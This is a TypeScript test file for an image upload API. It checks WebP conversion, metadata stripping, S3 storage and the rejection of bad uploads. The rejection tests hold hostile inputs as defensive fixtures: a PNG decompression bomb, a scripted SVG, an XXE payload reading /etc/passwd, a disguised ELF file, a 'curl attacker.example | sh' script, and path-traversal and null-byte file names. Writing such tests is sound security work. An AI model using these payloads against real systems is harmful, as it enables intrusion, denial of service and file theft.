import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import exifReader from 'exif-reader';
import type { LightMyRequestResponse } from 'fastify';
import S3rver from 's3rver';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig, REPO_ROOT, type S3Config } from '../../config.ts';
import {
  as,
  eventBody,
  expectErrorShape,
  type Organizer,
  publishedEvent,
  signedInMember,
  signUpOrganizer,
  startTestApp,
  type TestApp,
} from '../../test/app.ts';
import { MAX_IMAGE_BYTES } from './images.processing.ts';

let t: TestApp;
let owner: Organizer;

beforeAll(async () => {
  t = await startTestApp({ publicUrl: 'https://api.accessplus.example' });
  owner = await signUpOrganizer(t.app);
});
afterAll(() => t?.stop());

interface Image {
  id: string;
  url: string;
  width: number;
  height: number;
  variants: { width: number; url: string }[];
  srcset: string;
  created_at: string;
}

function upload(token: string | null, bytes: Buffer | string, contentType = 'image/jpeg', app = t.app) {
  return app.inject({
    method: 'POST',
    url: '/v1/images',
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), 'content-type': contentType },
    payload: bytes,
  });
}

async function uploaded(bytes: Buffer, contentType = 'image/jpeg'): Promise<Image> {
  const response = await upload(owner.token, bytes, contentType);
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

/** A picture with detail in it (a smooth gradient and noise), so the encoders have real work. */
async function picture(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i += 3) {
    const x = (i / 3) % width;
    const y = Math.floor(i / 3 / width);
    pixels[i] = (x * 255) / width;
    pixels[i + 1] = (y * 255) / height;
    pixels[i + 2] = (x * y) % 251;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** A file's name and path on the API, from its public address. */
const pathOf = (url: string) => new URL(url).pathname;

async function served(url: string, app = t.app) {
  const response = await app.inject({ method: 'GET', url: pathOf(url) });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

function expectImmutableWebp(response: LightMyRequestResponse, url: string) {
  expect(response.headers['content-type']).toBe('image/webp');
  expect(response.headers['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(response.headers['x-content-type-options']).toBe('nosniff');
  expect(Number(response.headers['content-length'])).toBe(response.rawPayload.length);
  // The name is the SHA-256 of the bytes.
  const hash = createHash('sha256').update(response.rawPayload).digest('hex');
  expect(pathOf(url)).toBe(`/v1/images/${hash}.webp`);
}

/** Every file kept in the app's folder, so a refused upload can be seen to store nothing. */
async function storedFiles(): Promise<string[]> {
  const entries = await readdir(t.runtime.services.config.filesDir, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}

async function imageCount(): Promise<number> {
  const { rows } = await t.admin.query<{ n: number }>('select count(*)::int as n from images');
  return rows[0]?.n ?? 0;
}

/**
 * A PNG that claims 20,000 × 20,000 pixels (400 megapixels) in about 50 KB: one-bit rows of
 * zeros compress to almost nothing and would decompress to gigabytes of pixels.
 */
function pngBomb(side = 20_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = Buffer.alloc(side * (1 + Math.ceil(side / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('uploading', () => {
  it('stores a JPEG as WebP in 480, 960 and 1600 pixel widths, served for good from content-hashed names', async () => {
    const before = await storedFiles();
    const image = await uploaded(await (await picture(2000, 1250)).jpeg({ quality: 90 }).toBuffer());
    expect(image).toMatchObject({ width: 1600, height: 1000 });
    expect(image.variants.map((variant) => variant.width)).toEqual([480, 960, 1600]);
    expect(image.url).toBe(image.variants[2]?.url);
    expect(image.srcset).toBe(image.variants.map((variant) => `${variant.url} ${variant.width}w`).join(', '));
    for (const variant of image.variants) {
      expect(variant.url).toMatch(/^https:\/\/api\.accessplus\.example\/v1\/images\/[0-9a-f]{64}\.webp$/);
      const response = await served(variant.url);
      expectImmutableWebp(response, variant.url);
      const meta = await sharp(response.rawPayload).metadata();
      expect(meta).toMatchObject({ format: 'webp', width: variant.width, height: (variant.width * 1250) / 2000 });
    }
    expect((await storedFiles()).length - before.length).toBe(3);
    const row = await t.admin.query('select * from images where id = $1', [image.id]);
    expect(row.rows[0]).toMatchObject({
      tenant_id: owner.organizerId,
      original_type: 'image/jpeg',
      width: 2000,
      height: 1250,
      created_by: owner.userId,
    });
  });

  it('never enlarges: a PNG narrower than 960 keeps its own width as the widest', async () => {
    const image = await uploaded(await (await picture(800, 600)).png().toBuffer(), 'image/png');
    expect(image.variants.map((variant) => variant.width)).toEqual([480, 800]);
    expect(image).toMatchObject({ width: 800, height: 600 });
    expectImmutableWebp(await served(image.url), image.url);
  });

  it('takes a WebP sent as application/octet-stream: the bytes say what it is', async () => {
    const image = await uploaded(await (await picture(300, 200)).webp().toBuffer(), 'application/octet-stream');
    expect(image.variants).toEqual([{ width: 300, url: image.url }]);
    expect(image.srcset).toBe(`${image.url} 300w`);
    const meta = await sharp((await served(image.url)).rawPayload).metadata();
    expect(meta).toMatchObject({ width: 300, height: 200 });
  });

  it('turns a photo upright by its EXIF orientation', async () => {
    // Stored 600 wide and 400 high, to be shown turned a quarter: 400 wide and 600 high.
    const sideways = await (await picture(600, 400)).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    expect((await sharp(sideways).metadata()).orientation).toBe(6);
    const image = await uploaded(sideways);
    expect(image).toMatchObject({ width: 400, height: 600 });
    const meta = await sharp((await served(image.url)).rawPayload).metadata();
    expect(meta).toMatchObject({ width: 400, height: 600 });
    expect(meta.orientation).toBeUndefined();
  });

  it('keeps no metadata: a phone photo with a GPS position, XMP and a color profile comes out without them', async () => {
    const photo = await (await picture(1000, 750))
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneCo', Model: 'Pocket 12', Copyright: 'Hana Tesfaye' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '38/1 59/1 2/1',
          GPSLongitudeRef: 'W',
          GPSLongitude: '77/1 1/1 35/1',
        },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
      )
      .withIccProfile('p3')
      .toBuffer();
    const sent = await sharp(photo).metadata();
    expect(exifReader(sent.exif as Buffer).GPSInfo?.GPSLatitude).toEqual([38, 59, 2]);
    expect(sent.xmp).toBeDefined();
    expect(sent.icc).toBeDefined();

    const image = await uploaded(photo);
    for (const variant of image.variants) {
      const bytes = (await served(variant.url)).rawPayload;
      const meta = await sharp(bytes).metadata();
      expect(meta.exif, 'EXIF').toBeUndefined();
      expect(meta.xmp, 'XMP').toBeUndefined();
      expect(meta.icc, 'ICC profile').toBeUndefined();
      expect(bytes.includes('PhoneCo')).toBe(false);
      expect(bytes.includes('Hana Tesfaye')).toBe(false);
    }
  });
});

describe('refusing', () => {
  async function refused(
    bytes: Buffer | string,
    contentType: string,
    status: number,
    code: string,
    token: string | null = owner.token,
  ) {
    const files = await storedFiles();
    const images = await imageCount();
    const response = await upload(token, bytes, contentType);
    const error = expectErrorShape(response, status, code);
    expect(error.message).toMatch(/[.!]$/);
    expect(await storedFiles()).toEqual(files);
    expect(await imageCount()).toBe(images);
    return error;
  }

  it('a PNG bomb of 20,000 × 20,000 pixels, from its header and without decoding it', async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(200_000);
    const started = Date.now();
    const error = await refused(bomb, 'image/png', 422, 'image_too_many_pixels');
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(error.message).toBe(
      'The image is 20000 × 20000 pixels (400 megapixels); the most accepted is 40 megapixels. Scale it down and upload it again.',
    );
    expect(error.details).toEqual([{ field: 'body', message: error.message }]);
  });

  const SUPPORTED = 'Upload a JPEG, PNG or WebP image.';

  it.each([
    ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    [
      'an SVG with an XML prolog',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    ],
    ['an executable named .jpg', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)])],
    ['a shell script named .jpg', '#!/bin/sh\ncurl https://attacker.example | sh\n'],
    ['a PDF', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'],
    ['plain text', 'just some words'],
  ])('%s, whatever its Content-Type says → 415', async (_label, bytes) => {
    for (const contentType of ['image/jpeg', 'application/octet-stream']) {
      const error = await refused(bytes, contentType, 415, 'unsupported_image');
      expect(error.message).toBe(SUPPORTED);
    }
  });

  it('a GIF and a TIFF, real images of other formats → 415', async () => {
    for (const format of ['gif', 'tiff'] as const) {
      const bytes = await (await picture(64, 64)).toFormat(format).toBuffer();
      expect((await refused(bytes, 'image/png', 415, 'unsupported_image')).message).toBe(SUPPORTED);
    }
  });

  it('a file over 10 MB → 413 in the error shape', async () => {
    const huge = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(MAX_IMAGE_BYTES)]);
    const error = await refused(huge, 'image/jpeg', 413, 'image_too_large');
    expect(error.message).toMatch(/larger than 10 MB/);
  });

  it('a damaged or cut-short image → 422', async () => {
    const jpeg = await (await picture(800, 600)).jpeg().toBuffer();
    await refused(jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 422, 'image_unreadable');
    const garbage = Buffer.concat([jpeg.subarray(0, 4), Buffer.alloc(2000, 0x5a)]);
    await refused(garbage, 'image/jpeg', 422, 'image_unreadable');
  });

  it('nothing, a form or JSON instead of the file → 400 and 415', async () => {
    const files = await storedFiles();
    const empty = await t.app.inject({
      method: 'POST',
      url: '/v1/images',
      headers: { authorization: `Bearer ${owner.token}` },
    });
    expectErrorShape(empty, 400, 'image_missing');
    await refused('', 'image/jpeg', 400, 'image_missing');
    await refused(
      '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nb\r\n--x--',
      'multipart/form-data; boundary=x',
      415,
      'unsupported_media_type',
    );
    await refused('{"image": "data:image/png;base64,iVBOR"}', 'application/json', 415, 'unsupported_media_type');
    expect(await storedFiles()).toEqual(files);
  });

  it('anyone but owners, admins and staff, before reading the file', async () => {
    const jpeg = await (await picture(100, 100)).jpeg().toBuffer();
    await refused(jpeg, 'image/jpeg', 401, 'unauthorized', null);
    const door = await signedInMember(t, owner, 'check_in');
    const error = await refused(jpeg, 'image/jpeg', 403, 'forbidden', door.token);
    expect(error.message).toMatch(/Only owners, admins, staff of this organizer can upload images/);
    // Refused before its body is read: a door scanner's 11 MB is not even looked at.
    await refused(Buffer.alloc(MAX_IMAGE_BYTES + 1), 'image/jpeg', 403, 'forbidden', door.token);
    const staff = await signedInMember(t, owner, 'staff');
    expect((await upload(staff.token, jpeg)).statusCode).toBe(201);
  });
});

describe('serving', () => {
  it('answers 404 in the error shape for a name nobody stored, and 400 for what is not a name', async () => {
    expectErrorShape(await t.app.inject({ method: 'GET', url: `/v1/images/${'0'.repeat(64)}.webp` }), 404, 'not_found');
    for (const name of [
      '..%2F..%2F..%2Fpackage.json',
      '%2E%2E',
      `${'A'.repeat(64)}.webp`,
      `${'0'.repeat(64)}.svg`,
      `${'0'.repeat(63)}.webp`,
      `${'0'.repeat(64)}.webp%00.png`,
    ]) {
      const response = await t.app.inject({ method: 'GET', url: `/v1/images/${name}` });
      expectErrorShape(response, [400, 404]);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
    }
  });
});

describe('events', () => {
  it('an event shows an uploaded image by its id, with the widths as srcset, in the catalog too', async () => {
    const image = await uploaded(await (await picture(1200, 800)).jpeg().toBuffer());
    const client = as(t.app, owner.token);
    const created = await client.post('/v1/events', eventBody({ image_id: image.id }));
    expect(created.statusCode, created.body).toBe(201);
    expect(created.json()).toMatchObject({ image_id: image.id, image_url: image.url, image_srcset: image.srcset });
    const eventId = created.json().id as string;
    expect((await client.post(`/v1/events/${eventId}/publish`)).statusCode).toBe(200);

    const page = await t.app.inject({ method: 'GET', url: `/v1/public/events/${eventId}` });
    expect(page.json()).toMatchObject({ image_url: image.url, image_srcset: image.srcset });
    const list = await t.app.inject({ method: 'GET', url: `/v1/public/events?organizer=${owner.slug}&limit=100` });
    const listed = list.json().data.find((event: { id: string }) => event.id === eventId);
    expect(listed).toMatchObject({ image_url: image.url, image_srcset: image.srcset });

    // An image_url of another site replaces the uploaded image.
    const external = await client.patch(`/v1/events/${eventId}`, { image_url: 'https://example.org/poster.jpg' });
    expect(external.json()).toMatchObject({
      image_id: null,
      image_url: 'https://example.org/poster.jpg',
      image_srcset: null,
    });
    const again = await client.patch(`/v1/events/${eventId}`, { image_id: image.id });
    expect(again.json()).toMatchObject({ image_id: image.id, image_url: image.url, image_srcset: image.srcset });
    const removed = await client.patch(`/v1/events/${eventId}`, { image_id: null });
    expect(removed.json()).toMatchObject({ image_id: null, image_url: null, image_srcset: null });
  });

  it('refuses an image id this organizer has not uploaded, and both image_id and image_url', async () => {
    const client = as(t.app, owner.token);
    const image = await uploaded(await (await picture(200, 200)).png().toBuffer(), 'image/png');
    const unknown = await client.post('/v1/events', eventBody({ image_id: '00000000-0000-4000-8000-000000000000' }));
    expect(expectErrorShape(unknown, 422, 'invalid_input').details[0]?.field).toBe('body.image_id');
    const both = await client.post(
      '/v1/events',
      eventBody({ image_id: image.id, image_url: 'https://example.org/a.jpg' }),
    );
    expect(expectErrorShape(both, 422, 'invalid_input').details[0]?.field).toBe('body.image_url');
  });

  it("another organizer cannot show this organizer's image on its events", async () => {
    const image = await uploaded(await (await picture(500, 300)).jpeg().toBuffer());
    const other = await signUpOrganizer(t.app);
    const otherClient = as(t.app, other.token);
    const events = await t.admin.query<{ n: number }>('select count(*)::int as n from events where tenant_id = $1', [
      other.organizerId,
    ]);
    const created = await otherClient.post('/v1/events', eventBody({ image_id: image.id }));
    expect(expectErrorShape(created, 422, 'invalid_input').details[0]?.field).toBe('body.image_id');
    const after = await t.admin.query<{ n: number }>('select count(*)::int as n from events where tenant_id = $1', [
      other.organizerId,
    ]);
    expect(after.rows[0]?.n).toBe(events.rows[0]?.n);

    const eventId = await publishedEvent(t.app, other.token);
    const before = (await otherClient.get(`/v1/events/${eventId}`)).json();
    const changed = await otherClient.patch(`/v1/events/${eventId}`, { image_id: image.id });
    expect(expectErrorShape(changed, 422, 'invalid_input').details[0]?.field).toBe('body.image_id');
    expect((await otherClient.get(`/v1/events/${eventId}`)).json()).toEqual(before);
  });
});

describe('in an S3-compatible bucket', () => {
  let s3rver: S3rver;
  let bucketDir: string;
  let s3: S3Config;
  let client: S3Client;
  let s3App: TestApp;

  beforeAll(async () => {
    bucketDir = await mkdtemp(join(tmpdir(), 'accessplus-s3-'));
    s3rver = new S3rver({
      address: '127.0.0.1',
      port: 0,
      silent: true,
      directory: bucketDir,
      configureBuckets: [{ name: 'covers', configs: [] }],
    });
    const { port } = await s3rver.run();
    s3 = {
      bucket: 'covers',
      region: 'us-east-1',
      endpoint: `http://127.0.0.1:${port}`,
      forcePathStyle: true,
      // s3rver's own fixed credentials.
      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
      publicUrl: undefined,
    };
    client = new S3Client({
      region: s3.region,
      endpoint: s3.endpoint,
      forcePathStyle: true,
      credentials: s3.credentials,
    });
    s3App = await startTestApp({ publicUrl: 'https://api.accessplus.example', s3 });
  });
  afterAll(async () => {
    await s3App?.stop();
    client?.destroy();
    await s3rver?.close();
    await rm(bucketDir, { recursive: true, force: true });
  });

  it('puts the widths in the bucket and serves them through the API', async () => {
    const organizer = await signUpOrganizer(s3App.app);
    const response = await upload(
      organizer.token,
      await (await picture(1000, 500)).jpeg().toBuffer(),
      'image/jpeg',
      s3App.app,
    );
    expect(response.statusCode, response.body).toBe(201);
    const image: Image = response.json();
    expect(image.variants.map((variant) => variant.width)).toEqual([480, 960, 1000]);
    for (const variant of image.variants) {
      const name = pathOf(variant.url).split('/').pop() as string;
      const object = await client.send(new GetObjectCommand({ Bucket: 'covers', Key: `images/${name}` }));
      expect(object.ContentType).toBe('image/webp');
      expect(object.CacheControl).toBe('public, max-age=31536000, immutable');
      const stored = Buffer.from(
        await (object.Body as { transformToByteArray(): Promise<Uint8Array> }).transformToByteArray(),
      );
      const fromApi = await served(variant.url, s3App.app);
      expectImmutableWebp(fromApi, variant.url);
      expect(fromApi.rawPayload.equals(stored)).toBe(true);
    }
    // Nothing went to the local folder.
    expect(await readdir(s3App.runtime.services.config.filesDir)).toEqual([]);
    expectErrorShape(
      await s3App.app.inject({ method: 'GET', url: `/v1/images/${'f'.repeat(64)}.webp` }),
      404,
      'not_found',
    );
  });

  it('deletes an object from the bucket (an export whose day is up), and a second delete is harmless', async () => {
    const files = s3App.runtime.services.files;
    await files.put('exports/t1/e1.csv', Buffer.from('Attendee\r\n'), 'text/csv; charset=utf-8');
    expect(await files.get('exports/t1/e1.csv')).not.toBeNull();
    await files.delete('exports/t1/e1.csv');
    expect(await files.get('exports/t1/e1.csv')).toBeNull();
    await files.delete('exports/t1/e1.csv');
  });

  it('with S3_PUBLIC_URL, gives the bucket’s own addresses, which serve the files', async () => {
    const direct = await s3App.anotherInstance({ s3: { ...s3, publicUrl: `${s3.endpoint}/covers` } });
    const organizer = await signUpOrganizer(direct.app);
    const response = await upload(
      organizer.token,
      await (await picture(640, 480)).png().toBuffer(),
      'image/png',
      direct.app,
    );
    expect(response.statusCode, response.body).toBe(201);
    const image: Image = response.json();
    for (const variant of image.variants) {
      expect(variant.url).toMatch(new RegExp(`^${s3.endpoint}/covers/images/[0-9a-f]{64}\\.webp$`));
      const fetched = await fetch(variant.url);
      expect(fetched.status).toBe(200);
      const bytes = Buffer.from(await fetched.arrayBuffer());
      expect((await sharp(bytes).metadata()).width).toBe(variant.width);
    }
  });
});

describe('configuration', () => {
  it('keeps files beside the embedded PostgreSQL by default, and in a bucket when S3_BUCKET is set', () => {
    const defaults = loadConfig({});
    expect(defaults.filesDir).toBe(`${REPO_ROOT}.data/files`);
    expect(defaults.s3).toBeUndefined();
    expect(loadConfig({ ACCESSPLUS_FILES_DIR: '/srv/files' }).filesDir).toBe('/srv/files');

    expect(loadConfig({ S3_BUCKET: 'covers' }).s3).toEqual({
      bucket: 'covers',
      region: 'us-east-1',
      endpoint: undefined,
      forcePathStyle: false,
      credentials: undefined,
      publicUrl: undefined,
    });
    expect(
      loadConfig({
        S3_BUCKET: 'covers',
        S3_REGION: 'eu-west-3',
        S3_ENDPOINT: 'https://minio.example.org',
        S3_FORCE_PATH_STYLE: 'true',
        S3_ACCESS_KEY_ID: 'key',
        S3_SECRET_ACCESS_KEY: 'secret',
        S3_PUBLIC_URL: 'https://files.example.org/',
      }).s3,
    ).toEqual({
      bucket: 'covers',
      region: 'eu-west-3',
      endpoint: 'https://minio.example.org',
      forcePathStyle: true,
      credentials: { accessKeyId: 'key', secretAccessKey: 'secret' },
      publicUrl: 'https://files.example.org',
    });
    expect(loadConfig({ S3_BUCKET: 'covers', AWS_REGION: 'us-west-2' }).s3?.region).toBe('us-west-2');
  });

  it('refuses settings that cannot work, saying what to set', () => {
    expect(() => loadConfig({ S3_BUCKET: 'covers', S3_ACCESS_KEY_ID: 'key' })).toThrow(/S3_SECRET_ACCESS_KEY/);
    expect(() => loadConfig({ S3_BUCKET: 'covers', S3_ENDPOINT: 'minio:9000' })).toThrow(/S3_ENDPOINT must look like/);
    expect(() => loadConfig({ S3_BUCKET: 'covers', S3_PUBLIC_URL: 'files.example.org' })).toThrow(/S3_PUBLIC_URL/);
    expect(() => loadConfig({ S3_BUCKET: 'covers', S3_FORCE_PATH_STYLE: 'yes' })).toThrow(/S3_FORCE_PATH_STYLE/);
  });
});
